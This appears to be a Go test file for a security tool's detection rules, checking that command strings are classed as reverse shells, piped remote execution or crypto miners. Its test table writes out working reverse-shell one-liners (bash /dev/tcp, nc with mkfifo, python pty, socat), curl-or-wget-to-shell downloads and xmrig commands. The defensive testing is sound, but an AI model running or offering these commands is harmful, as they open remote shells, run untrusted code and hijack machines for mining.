package attackphases

import (
	"testing"

	"bulwark/control/controltest"
	"bulwark/internal/denytest"
)

func TestControls(t *testing.T) { controltest.Run(t, Controls()) }

func TestDeny(t *testing.T) { denytest.Run(t, Controls()) }

func TestPatterns(t *testing.T) {
	for text, want := range map[string]string{
		"/bin/sh -c -- ncat --ssl $HOST $PORT -e /bin/bash;": "shell", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": "shell",
		"sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f":                                             "shell",
		"python3 -c import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")": "shell",
		"socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "shell", "nc -lk 8080": "", "sh -c until nc -z db 5432; do sleep 1; done": "",
		"bash -c exec 3<>/dev/tcp/localhost/8080": "", "sh -c nc -vz -w 2 redis 6379 && exec /app": "",
		"sh -c curl -fsSL https://x.example/i.sh | sh": "piped", "sh -c wget -qO- https://x.example/i.sh | bash -s --": "piped",
		"sh -c echo aGk= | base64 -d | sh": "piped", "bash -c bash <(curl -s https://x.example)": "piped", "sh -c $(curl -s https://x.example)": "piped",
		"sh -c curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x": "piped", "sh -c curl -sf http://localhost:8080/healthz | grep ok": "",
		"sh -c curl -s https://x.example | jq .": "", "sh -c curl -o /data/db https://x.example/db && chmod 644 /data/db": "",
		"xmrig -o pool.supportxmr.com:443": "miner", "app --pool stratum+tcp://x:3333": "miner", "/usr/bin/xmrig": "miner", "app --mine": "",
	} {
		got := ""
		switch {
		case shells.Match(text):
			got = "shell"
		case piped.Match(text):
			got = "piped"
		case minerCommands.Match(text):
			got = "miner"
		}
		if got != want {
			t.Errorf("%q is %q, want %q", text, got, want)
		}
	}
}
